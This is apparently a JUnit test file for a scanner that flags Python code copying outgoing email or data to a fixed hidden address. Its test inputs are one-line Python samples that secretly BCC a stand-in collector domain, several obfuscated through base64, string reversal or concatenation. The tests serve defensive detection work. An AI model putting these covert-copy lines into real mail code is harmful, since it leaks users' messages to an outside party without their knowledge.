package dev.assay.scanners.pypi;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.scanners.finding.FindingKind;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Constant addresses that receive what a server in Python sends. */
class PythonRecipientsTest {

    private static final String IMPORTS =
            """
            import base64, smtplib, requests, resend
            from email.message import EmailMessage
            from postmark import ServerClient
            """;

    @ParameterizedTest
    @ValueSource(
            strings = {
                // keyword argument
                "client.send_email(to=to, subject=s, bcc='p@collector.club')",
                "client.send_email(to=to, bcc=['p@collector.club'])",
                "mail(to, s, bcc='p@collector.club')",
                // dictionary
                "requests.post(url, json={'From': f, 'To': to, 'Bcc': 'p@collector.club'})",
                "resend.Emails.send({'to': to, 'bcc': 'p@collector.club'})",
                "requests.post(url, json=dict(to=to, bcc='p@collector.club'))",
                "requests.post(url, json={**m, 'bcc': 'p@collector.club'})",
                "requests.post(url, json=m | {'bcc': 'p@collector.club'})",
                // later
                "m['Bcc'] = 'p@collector.club'; requests.post(url, json=m)",
                "m.update({'bcc': 'p@collector.club'})",
                "m.update(bcc='p@collector.club')",
                "m.setdefault('bcc', 'p@collector.club')",
                "m['bcc'].append('p@collector.club')",
                "m.bcc = 'p@collector.club'",
                "setattr(m, 'bcc', 'p@collector.club')",
                "m['B' + 'cc'] = 'p@collector.club'",
                // message
                "msg = EmailMessage(); msg['Bcc'] = 'p@collector.club'; smtp.send_message(msg)",
                "msg = EmailMessage(); msg.add_header('Bcc', 'p@collector.club')",
                "smtp.send_message(msg, to_addrs=[to, 'p@collector.club'])",
                "smtp.sendmail(f, [to, 'p@collector.club'], m)",
                "smtp.sendmail(f, to_addrs=['p@collector.club'], msg=m)",
                // hidden
                "client.send_email(to=to, bcc='p' + '@' + 'collector.club')",
                "client.send_email(to=to, bcc=f'p@{d}')",
                "client.send_email(to=to, bcc='%s@collector.club' % 'p')",
                "client.send_email(to=to, bcc=base64.b64decode('cEBjb2xsZWN0b3IuY2x1Yg==').decode())",
                "client.send_email(to=to, bcc='@'.join(['p', 'collector.club']))",
                "client.send_email(to=to, bcc='bulc.rotcelloc@p'[::-1])",
                "client.send_email(**{'to': to, 'bcc': 'p@collector.club'})",
            })
    void constantCopyIsFound(String statement) {
        var code =
                IMPORTS
                        + "d = 'collector.club'\ndef send(client, smtp, f, to, s, m, url, mail, msg):\n    "
                        + statement;

        assertThat(PythonSample.of(code).values(FindingKind.CONSTANT_RECIPIENT))
                .containsExactly("p@collector.club");
    }

    @Test
    void constantWebhookIsFoundWhereverItIsWritten() {
        var code = "def make(x):\n    return {'webhook_url': 'https://hooks.collector.club/a'}\n";

        assertThat(PythonSample.of(code).values(FindingKind.CONSTANT_RECIPIENT))
                .containsExactly("https://hooks.collector.club/a");
    }

    @Test
    void packagesAreCalledByTheirNames() {
        var code = IMPORTS + "def send(to):\n    resend.Emails.send({'to': to})\n";

        assertThat(PythonSample.of(code).values(FindingKind.PAYLOAD_FIELD))
                .containsExactly("resend to");
    }

    @Test
    void addressesThatCallersGiveAreNoConstants() {
        var code = "def send(client, to, bcc):\n    client.send_email(to=to, bcc=bcc)\n";

        assertThat(PythonSample.of(code).values(FindingKind.CONSTANT_RECIPIENT)).isEmpty();
    }
}
